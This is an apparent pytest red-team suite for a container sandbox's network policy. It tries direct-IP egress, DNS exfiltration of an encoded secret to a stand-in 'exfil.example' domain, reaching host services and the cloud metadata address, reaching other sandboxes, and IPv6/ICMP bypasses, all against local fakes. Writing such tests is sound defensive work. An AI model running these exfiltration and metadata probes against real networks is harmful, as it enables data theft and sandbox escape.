"""Red team D25-D30 (network), attacked from inside real container sandboxes with a network
policy. Targets never leave this machine: a "fake internet" namespace made by the test
(tests/integration/test_netpolicy_targets.py), host-side listeners, and a fake upstream
resolver that logs every question. Each attack has a twin where the same attempt succeeds
because the policy (or the sandbox) allows it, so a test that can not fail shows up."""
from __future__ import annotations

import asyncio
import json
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Iterator

import pytest

from rollbox.models import ExecSpec, NetworkPolicy
from rollbox.netpolicy import link
from tests.conftest import needs_python
from tests.integration.test_netpolicy_targets import (  # noqa: F401 - fixtures
    CONNECT,
    DNS_CLIENT,
    FakeInternet,
    FakeUpstream,
    internet,
    upstream,
)
from tests.redteam.conftest import PY, Boxes, container_only, needs_root

pytestmark = [needs_root, needs_python, container_only(
    "these aim at a container's veth, cgroup-BPF filters and DNS gate; class D on microVMs is "
    "enforced at the tap and tested by the microVM network tests")]
A, AAAA, TXT, ANY = 1, 28, 16, 255


class HostListener:
    """A TCP echo server on the host (``bind`` address, free port); counts connections."""

    def __init__(self, bind: str = "0.0.0.0", family: int = socket.AF_INET) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.sock.bind((bind, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.conns = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.conns += 1
            with c:
                try:
                    c.settimeout(2)
                    c.sendall(c.recv(100))
                except OSError:
                    pass

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listeners() -> Iterator[list[HostListener]]:
    made: list[HostListener] = []
    try:
        yield made
    finally:
        for h in made:
            h.close()


async def out(boxes: Boxes, sid: str, code: str, *args: str) -> str:
    r = await boxes.run(sid, ["python3", "-c", code, *args])
    return (r.stdout + r.stderr).strip()


async def connect(boxes: Boxes, sid: str, ip: str, port: int, proto: str = "tcp") -> str:
    return await out(boxes, sid, CONNECT, ip, str(port), proto)


async def netbox(boxes: Boxes, internet: FakeInternet, rules: list[str],  # noqa: F811
                 hardened: bool = True) -> str:
    sid = await boxes.make(PY, network=rules, hardened=hardened)
    internet.route_from(sid)
    return sid


def reached(internet: FakeInternet, ip: str, port: int, since: int = 0) -> bool:  # noqa: F811
    """Whether the fake internet logged a connection to ip:port after its first ``since``
    lines (it lives for the module: the runs of every backend and runtime share its log)."""
    return any(line.startswith(f"tcp {ip}:{port} ") for line in internet.log()[since:])


# ---- D25: direct-IP egress that skips DNS --------------------------------------------------
async def test_d25_direct_ip_egress(boxes: Boxes, internet: FakeInternet,  # noqa: F811
                                    upstream: FakeUpstream) -> None:  # noqa: F811
    named, direct = internet.ips[0], internet.ips[1]
    seen = len(internet.log())  # an earlier run's twin reached it already
    sid = await netbox(boxes, internet, ["allowed.example:8080"])
    # The name's address before any lookup, and another address on the name's port.
    assert await connect(boxes, sid, named, 8080) == "err 1"
    assert await connect(boxes, sid, direct, 8080) == "err 1"
    assert await connect(boxes, sid, direct, 8080, "udp") == "err 1"
    # Sending with a spoofed source or via sendmsg to an unconnected socket changes nothing.
    code = ("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
            "try:\n s.sendmsg([b'x'],[],0,(__import__('sys').argv[1],8080)); print('sent')\n"
            "except OSError as e: print('err', e.errno)")
    assert await out(boxes, sid, code, direct) == "err 1"
    assert not reached(internet, direct, 8080, seen)
    # Twin: the same address named by an IP rule is reachable.
    twin = await netbox(boxes, internet, [f"{direct}:8080"])
    assert await connect(boxes, twin, direct, 8080) == "ok hi"
    assert reached(internet, direct, 8080)


# ---- D26: DNS exfiltration to a name that is not allowed -----------------------------------
async def test_d26_dns_exfiltration(boxes: Boxes, internet: FakeInternet,  # noqa: F811
                                    upstream: FakeUpstream) -> None:  # noqa: F811
    sid = await netbox(boxes, internet, ["allowed.example:8080"])
    secret = "c2VjcmV0LWFuc3dlcg"
    long_label = "x" * 63
    queries = [[f"{secret}.exfil.example", A, False], [f"{secret}.exfil.example", A, True],
               [f"{secret}.exfil.example", AAAA, False], [f"{secret}.exfil.example", TXT, True],
               [f"{secret}.exfil.example", ANY, False],
               [f"{long_label}.{long_label}.{long_label}.exfil.example", A, False],
               [f"{secret}.allowed.example", A, False],  # a sub-domain of an allowed name
               ["allowed.example.exfil.example", TXT, True]]
    got = json.loads(await out(boxes, sid, DNS_CLIENT, json.dumps(queries)))
    assert set(got.values()) == {"rcode 5 answers 0"}, got  # REFUSED, every one
    # A label longer than 63 bytes is not even a DNS message: no answer, nothing forwarded.
    bad = json.loads(await out(boxes, sid, DNS_CLIENT, json.dumps(
        [["y" * 64 + ".exfil.example", A, False, 1.0]])))
    assert list(bad.values()) == ["timeout"], bad
    # Around the gate: straight to another resolver (the host's, a public one) over UDP/TCP.
    for ip in ("8.8.8.8", "1.1.1.1", internet.ips[2], internet.host_ip):
        assert await connect(boxes, sid, ip, 53, "udp") == "err 1"
        assert await connect(boxes, sid, ip, 53) == "err 1"
    # Twin: the allowed name is resolved upstream, so the log would show a leak.
    ok = json.loads(await out(boxes, sid, DNS_CLIENT, json.dumps([["allowed.example", A, True]])))
    assert list(ok.values()) == ["rcode 0 answers 1"]
    assert upstream.log == [("udp", "A", "allowed.example")], upstream.log
    assert secret not in str(upstream.log) and "exfil" not in str(upstream.log)


# ---- D27: host loopback, metadata, the platform's ports, other host addresses --------------
async def test_d27_host_services_metadata_platform(boxes: Boxes, internet: FakeInternet,  # noqa: F811
                                                   listeners: list[HostListener],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    loop_only = HostListener("127.0.0.1")
    wildcard = HostListener("0.0.0.0")  # any host service bound to every address
    platform = HostListener("0.0.0.0")  # stands for the api port
    mirror = HostListener("127.0.0.1")  # stands for the PyPI mirror
    listeners += [loop_only, wildcard, platform, mirror]
    monkeypatch.setattr(boxes.edge.settings, "platform_ports", (platform.port,))
    boxes.edge.settings.mirrors = {"pypi": f"http://127.0.0.1:{mirror.port}/simple/"}
    broad = [f"0.0.0.0/0:{p}" for p in (loop_only.port, wildcard.port, platform.port, 80)]
    sid = await netbox(boxes, internet, broad + ["pypi"])
    gate = link.find(sid).gate_ip  # type: ignore[union-attr]
    # Host loopback: 127.0.0.1 is the sandbox's own; the gate never leads to it.
    assert (await connect(boxes, sid, "127.0.0.1", loop_only.port)).startswith("err 111")
    assert await connect(boxes, sid, gate, loop_only.port) == "err 1"
    # Metadata service (link-local), even with 0.0.0.0/0 on its port.
    assert await connect(boxes, sid, "169.254.169.254", 80) == "err 1"
    assert await connect(boxes, sid, "169.254.170.2", 80) == "err 1"
    # The platform's port and any other host service, on every host address, under a broad rule.
    for ip in (gate, internet.host_ip):
        assert await connect(boxes, sid, ip, platform.port) == "err 1"
        assert await connect(boxes, sid, ip, wildcard.port) == "err 1"
    # The mirror: the forward at the gate only, that port only, nowhere else.
    assert await connect(boxes, sid, gate, mirror.port) == "ok hi"
    assert await connect(boxes, sid, internet.host_ip, mirror.port) == "err 1"
    assert await connect(boxes, sid, gate, mirror.port, "udp") == "err 1"
    env = (await boxes.run(sid, ["sh", "-c", "echo $PIP_INDEX_URL"])).stdout.strip()
    assert env == f"http://{gate}:{mirror.port}/simple/"
    assert platform.conns == 0 and wildcard.conns == 0 and loop_only.conns == 0
    # Without the permission, the forward is closed (the DNAT is node-wide, the map is not).
    other = await netbox(boxes, internet, broad)
    other_gate = link.find(other).gate_ip  # type: ignore[union-attr]
    assert await connect(boxes, other, other_gate, mirror.port) == "err 1"
    assert await connect(boxes, sid, other_gate, mirror.port) == "err 1"  # nor via its gate
    # Twins: the broad rule really opens the outside on that port; a rule naming exactly one
    # host address on a non-platform port is a deliberate opening and works.
    assert await connect(boxes, sid, internet.ips[0], 80) == "ok hi"
    twin = await netbox(boxes, internet, [f"{internet.host_ip}:{wildcard.port}",
                                          f"{internet.host_ip}:{platform.port}"])
    assert await connect(boxes, twin, internet.host_ip, wildcard.port) == "ok hi"
    assert await connect(boxes, twin, internet.host_ip, platform.port) == "err 1"
    assert wildcard.conns == 1 and platform.conns == 0


async def test_d27_the_edge_service_port(boxes: Boxes, internet: FakeInternet,  # noqa: F811
                                        listeners: list[HostListener],
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Cluster mode: the node's edge served over HTTP (edge.service, the api replicas' data
    path) on every host address. Its port (settings.edge_port) is one of the platform's: no
    rule opens it, not even one naming exactly the host address and that port."""
    from rollbox.edge.remote import RemoteEdge
    from rollbox.edge.service import serve_edge
    from tests.conftest import CLUSTER_TOKEN

    other = HostListener("0.0.0.0")
    listeners.append(other)
    async with serve_edge(boxes.edge, "0.0.0.0", 0, CLUSTER_TOKEN) as srv:
        monkeypatch.setattr(boxes.edge.settings, "edge_port", srv.port)
        sid = await netbox(boxes, internet, [f"{internet.host_ip}:{srv.port}",
                                             f"0.0.0.0/0:{srv.port}",
                                             f"{internet.host_ip}:{other.port}"])
        gate = link.find(sid).gate_ip  # type: ignore[union-attr]
        for ip in (internet.host_ip, gate, "127.0.0.1"):
            assert (await connect(boxes, sid, ip, srv.port))[:3] in ("err", "tim"), ip
        # Twin: the same rule form opens a host port that is not the platform's.
        assert await connect(boxes, sid, internet.host_ip, other.port) == "ok hi"
        assert other.conns == 1
        # The port does serve (from the host, with the token), so the refusals were the rule's.
        async with RemoteEdge(boxes.edge.node_id, f"http://127.0.0.1:{srv.port}",
                              CLUSTER_TOKEN) as remote:
            assert sid in {i.id for i in await remote.list(None, {})}


# ---- D28: other sandboxes ------------------------------------------------------------------
LISTEN = """
import socket, threading, time
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9999))
    while True:
        d, p = u.recvfrom(100); u.sendto(d, p)
threading.Thread(target=udp, daemon=True).start()
s = socket.create_server(('0.0.0.0', 9999))
print('listening', flush=True)
while True:
    c, _ = s.accept(); c.sendall(c.recv(10)); c.close()
"""


async def test_d28_other_sandboxes(boxes: Boxes, internet: FakeInternet) -> None:  # noqa: F811
    rules = ["0.0.0.0/0:9999", "0.0.0.0/0:9999/udp"]
    a = await netbox(boxes, internet, rules)
    b = await netbox(boxes, internet, rules)
    lb = link.find(b)
    assert lb is not None
    await boxes.edge.exec_start(b, ExecSpec(cmd=["python3", "-c", LISTEN], background=True,
                                            timeout_s=60))
    await asyncio.sleep(0.5)
    # Twin: the listener answers inside b (its own loopback).
    assert await connect(boxes, b, "127.0.0.1", 9999) == "ok hi"
    assert await connect(boxes, b, "127.0.0.1", 9999, "udp") == "ok hi"
    for ip in (lb.sandbox_ip, lb.gate_ip):
        assert await connect(boxes, a, ip, 9999) == "err 1"
        assert await connect(boxes, a, ip, 9999, "udp") == "err 1"
    # Even if the BPF rule were bypassed, the host forwards nothing between sandbox links.
    # A sandbox without a policy has no link at all.
    c = await boxes.make(PY)
    r = await boxes.run(c, ["python3", "-c", "import socket; print(socket.if_nameindex())"])
    assert r.stdout.strip() == "[(1, 'lo')]", r


# ---- D29: a connection opened during setup, kept after the phase closes it ----------------
HOLD = """
import socket, sys, time
slack = float(sys.argv[3]) if len(sys.argv) > 3 else 1.0  # timeouts x slack (a slow guest)
tcp = socket.create_connection((sys.argv[1], 8080), timeout=3 * slack)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.connect((sys.argv[1], 8080))
udp.settimeout(0.5 * slack); tcp.settimeout(0.5 * slack)
print('open', flush=True)
ok = 0
t0 = time.monotonic()
while time.monotonic() - t0 < float(sys.argv[2]):
    try:
        tcp.sendall(b'x'); tcp.recv(1); udp.send(b'y'); udp.recv(1); ok += 1
    except OSError as e:
        print('cut', type(e).__name__, flush=True); break
    time.sleep(0.02)
else:
    print('alive', ok, flush=True)
"""


async def test_d29_setup_connection_cut(boxes: Boxes, internet: FakeInternet) -> None:  # noqa: F811
    target = internet.ips[3]
    setup = [f"{target}:8080", f"{target}:8080/udp"]
    for keep in (False, True):  # keep=True is the twin: the phase change leaves the rule
        sid = await netbox(boxes, internet, setup)
        eid = await boxes.edge.exec_start(sid, ExecSpec(cmd=["python3", "-c", HOLD, target, "3"],
                                                        timeout_s=20))
        await asyncio.sleep(1.0)  # the connections are open and echoing
        t0 = time.monotonic()
        await boxes.edge.set_network(sid, NetworkPolicy(allow=setup if keep else []))
        assert time.monotonic() - t0 < 1.0
        res = await boxes.edge.exec_wait(sid, eid)
        assert res.stdout.startswith("open\n"), res
        if keep:
            assert "alive" in res.stdout, res
        else:
            assert "cut" in res.stdout, res
            assert await connect(boxes, sid, target, 8080) == "err 1"


# ---- D30: IPv6, ICMP, UDP/QUIC around a TCP-only rule --------------------------------------
V6 = """
import socket, sys
out = []
for addr in sys.argv[1:]:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2)
    try:
        s.connect((addr, PORT)); out.append('ok')
    except OSError as e:
        out.append(f'err {e.errno}')
print(' '.join(out))
"""


def gate_link_local(sandbox_id: str) -> str | None:
    info = json.loads(subprocess.run(["ip", "-j", "-6", "addr", "show", "dev",
                                      link.link_name(sandbox_id)], capture_output=True,
                                     text=True).stdout or "[]")
    for it in info:
        for a in it.get("addr_info", []):
            if a["local"].startswith("fe80"):
                return str(a["local"])
    return None


ICMP = """
import socket, struct, sys
def csum(b):
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff
res = []
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(1.5)
    except OSError as e:
        res.append(f'socket err {e.errno}'); continue
    pkt = struct.pack('!BBHHH', 8, 0, 0, 7, 1) + b'rollbox!'
    pkt = pkt[:2] + struct.pack('!H', csum(pkt)) + pkt[4:]
    try:
        s.sendto(pkt, (sys.argv[1], 0)); s.recv(100); res.append('reply')
    except socket.timeout:
        res.append('no reply')
    except OSError as e:
        res.append(f'send err {e.errno}')
print(' | '.join(res))
"""


async def test_d30_ipv6_icmp_udp(boxes: Boxes, internet: FakeInternet,  # noqa: F811
                                 listeners: list[HostListener]) -> None:
    v6 = HostListener("::", socket.AF_INET6)  # a dual-stack host service
    listeners.append(v6)
    ip = internet.ips[0]
    sid = await netbox(boxes, internet, [f"0.0.0.0/0:{v6.port}", f"{ip}:443", f"{ip}:8080/udp"])
    # IPv6: the gate's link-local address, a global one, and the allowed IPv4 address mapped
    # into IPv6 (same socket family trick) are all refused at connect.
    code = V6.replace("PORT", str(v6.port))
    lla = gate_link_local(sid)
    addrs = [f"::ffff:{ip}", "2001:db8::1", f"{lla or 'fe80::1'}%eth0"]
    assert await out(boxes, sid, code, *addrs) == "err 1 err 1 err 1", lla
    r = await out(boxes, sid, "import socket,sys\ns=socket.socket(socket.AF_INET6,"
                  "socket.SOCK_DGRAM)\ntry: s.sendto(b'x',(sys.argv[1],443)); print('sent')\n"
                  "except OSError as e: print('err', e.errno)", f"::ffff:{ip}")
    assert r == "err 1"
    assert v6.conns == 0
    # Twin (IPv4 path of the same host service): reachable at the allowed IPv4 destination.
    assert await connect(boxes, sid, ip, 443) == "ok hi"
    # UDP (QUIC) around a TCP-only rule, and TCP around a UDP-only rule.
    assert await connect(boxes, sid, ip, 443, "udp") == "err 1"
    assert await connect(boxes, sid, ip, 8080) == "err 1"
    assert await connect(boxes, sid, ip, 8080, "udp") == "ok hi"  # twin: the UDP rule
    # ICMP: no raw socket (no CAP_NET_RAW), no ping socket (ping_group_range).
    assert await out(boxes, sid, ICMP, ip) == "socket err 1 | socket err 13"
    # Even unhardened (every capability): the netns belongs to the host's user namespace, so
    # the sandbox's CAP_NET_RAW does not count there.
    weak = await netbox(boxes, internet, [f"{ip}:443"], hardened=False)
    assert await out(boxes, weak, ICMP, ip) == "socket err 1 | socket err 13"
    # Weakened on purpose from the host: ping sockets allowed in the sandbox's netns. The echo
    # request still never gets an answer: the packet filter passes TCP and UDP only.
    subprocess.run(["ip", "netns", "exec", f"rollbox-{weak}", "sysctl", "-qw",
                    "net.ipv4.ping_group_range=0 2147483647"], check=True)
    res = await out(boxes, weak, ICMP, ip)
    assert res in ("socket err 1 | no reply", "socket err 1 | send err 1"), res
    # Twin: the target answers pings (from the host).
    assert host_ping(ip)


def host_ping(ip: str) -> bool:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(2)
    with s:
        body = struct.pack("!BBHHH", 8, 0, 0, 9, 1) + b"rollbox!"
        words = struct.unpack("!%dH" % (len(body) // 2), body)
        c = sum(words)
        c = (c >> 16) + (c & 0xFFFF)
        c = ~(c + (c >> 16)) & 0xFFFF
        s.sendto(body[:2] + struct.pack("!H", c) + body[4:], (ip, 0))
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            data, peer = s.recvfrom(200)
            if peer[0] == ip and data[20] == 0:  # echo reply
                return True
    return False
